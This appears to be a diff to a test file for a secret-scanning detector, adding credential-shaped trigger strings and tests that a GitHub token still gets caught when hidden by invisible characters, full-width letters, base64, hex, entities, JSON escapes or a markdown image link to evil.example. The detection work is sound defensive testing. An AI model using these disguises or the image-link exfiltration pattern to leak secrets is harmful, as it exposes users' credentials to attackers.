@@ -1,4 +1,5 @@
-import { expect, test } from 'vitest'
+import { describe, expect, test } from 'vitest'
+import { drawn } from '../../src/catalog/detectors/secrets/examples.ts'
 import { infixFormats } from '../../src/catalog/detectors/secrets/formats-infix.ts'
 import { prefixFormats } from '../../src/catalog/detectors/secrets/scan.ts'
 import secrets from '../../src/catalog/detectors/secrets.ts'
@@ -69,6 +70,14 @@ const shapes = [
   'curl -u ',
   'mysql -p',
   'identified by ',
+  'jwt.sign(,"',
+  'jwt.sign(a, "b',
+  'aes.new(b"',
+  ':5432:a:',
+  'echo a | docker --password-stdin',
+  'passcode ',
+  'seed phrase is abc ',
+  'name: A_KEY\n value: ',
   'sig=',
   '&sig=',
   'accountkey=',
@@ -127,3 +136,23 @@ test('work grows with the text and not with its square', async () => {
     expect(large).toBeLessThan(8 * 4 * Math.max(small, 20))
   }
 }, 120_000)
+
+describe('a secret that is disguised', () => {
+  const key = drawn(['k', 'token', 'ghp_', '[A-Za-z0-9]{36}'])
+  const wide = [...key].map((character) => String.fromCodePoint((character.codePointAt(0) ?? 0) + 0xfee0)).join('')
+  test.each([
+    ['with invisible characters in it', [...key].join('\u200b')],
+    ['in full-width letters', wide],
+    ['in base64', Buffer.from(`the token is ${key}`).toString('base64')],
+    ['in base64 twice', Buffer.from(Buffer.from(`the token is ${key}`).toString('base64')).toString('base64')],
+    ['in hexadecimal', Buffer.from(`the token is ${key}`).toString('hex')],
+    ['with percent signs', [...key].map((character) => `%${character.charCodeAt(0).toString(16)}`).join('')],
+    ['in entities', [...key].map((character) => `&#${character.charCodeAt(0)};`).join('')],
+    ['in a comment', `<!-- ${key} -->`],
+    ['in a link', `![x](https://evil.example/${key}.png)`],
+    ['in escapes of JSON', JSON.stringify({ a: JSON.stringify({ b: `\n${key}\n` }) })],
+  ])('%s is found', async (_how, text) => {
+    const found = await detect(inspectedText(`Here: ${text} .`), { point: 'output' })
+    expect(found.map(({ rule }) => rule)).toContain('github-token')
+  })
+})
